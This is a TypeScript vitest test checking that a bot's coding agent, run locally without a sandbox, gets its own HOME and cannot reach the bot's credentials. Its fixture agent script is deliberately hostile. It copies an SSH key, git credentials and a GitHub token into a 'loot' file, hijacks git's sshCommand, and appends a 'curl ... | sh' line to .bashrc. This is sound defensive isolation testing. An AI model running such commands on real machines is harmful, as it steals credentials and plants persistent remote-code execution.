import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_GOAL } from '../../src/adapters/demo/fixture.js';
import { REVIEW_FIX_AGENT } from '../helpers/review-fix-agent.js';
import { type BotEnv, startBotEnv } from './harness.js';

/**
 * The bot's local runs, sandbox off: its agent has a HOME of its own. The bot's HOME (the
 * harness's work directory, a fake one) holds an SSH key, a git credential and a gh login; the
 * agent does the demo's work, then reads them through $HOME and writes ~/.gitconfig and ~/.bashrc.
 */
describe("a bot agent's HOME (local mode, sandbox off)", () => {
  let env: BotEnv;
  let dir: string;
  const loot = () => join(dir, 'loot');

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'omk-bot-home-'));
    await writeFile(join(dir, 'work.mjs'), REVIEW_FIX_AGENT);
    await chmod(join(dir, 'work.mjs'), 0o755);
    const agent = join(dir, 'agent.sh');
    await writeFile(
      agent,
      [
        '#!/bin/sh',
        `node ${join(dir, 'work.mjs')} || exit 1`,
        `cat "$HOME/.ssh/id_rsa" "$HOME/.git-credentials" "$HOME/.config/gh/hosts.yml" >> ${loot()} 2>/dev/null`,
        `echo "HOME=$HOME" >> ${loot()}`,
        'git config --global core.sshCommand "touch /tmp/omk-never"',
        `echo 'curl http://127.0.0.1:9/x | sh' >> "$HOME/.bashrc"`,
        'exit 0',
        '',
      ].join('\n'),
    );
    await chmod(agent, 0o755);
    env = await startBotEnv({ mode: 'local', env: { OMK_BOT_AGENT: `script:${agent}` } });
    const home = env.workDir;
    await mkdir(join(home, '.ssh'), { recursive: true });
    await writeFile(join(home, '.ssh', 'id_rsa'), 'SSH-KEY-MATERIAL\n');
    await writeFile(join(home, '.git-credentials'), 'https://me:GIT-CREDENTIAL-VALUE@github.com\n');
    await mkdir(join(home, '.config', 'gh'), { recursive: true });
    await writeFile(join(home, '.config', 'gh', 'hosts.yml'), 'github.com:\n  oauth_token: GH-HOSTS-VALUE\n');
    await writeFile(join(home, '.bashrc'), "# the bot's own\n");
    await env.comment(`/omk goal run "${DEMO_GOAL}"`);
    await env.bot.idle();
  }, 240_000);
  afterAll(async () => {
    await env.close();
    await rm(dir, { recursive: true, force: true });
  });

  it("finds none of the bot's credential stores, and leaves the bot's HOME unchanged", async () => {
    expect(env.jobs.filter((j) => j.error !== null)).toEqual([]);
    const found = await readFile(loot(), 'utf8');
    expect(found).toMatch(/HOME=\//);
    expect(found).not.toContain(`HOME=${env.workDir}\n`);
    for (const secret of ['SSH-KEY-MATERIAL', 'GIT-CREDENTIAL-VALUE', 'GH-HOSTS-VALUE']) {
      expect(found).not.toContain(secret);
    }
    expect(existsSync(join(env.workDir, '.gitconfig'))).toBe(false);
    expect(await readFile(join(env.workDir, '.bashrc'), 'utf8')).toBe("# the bot's own\n");
  });
});
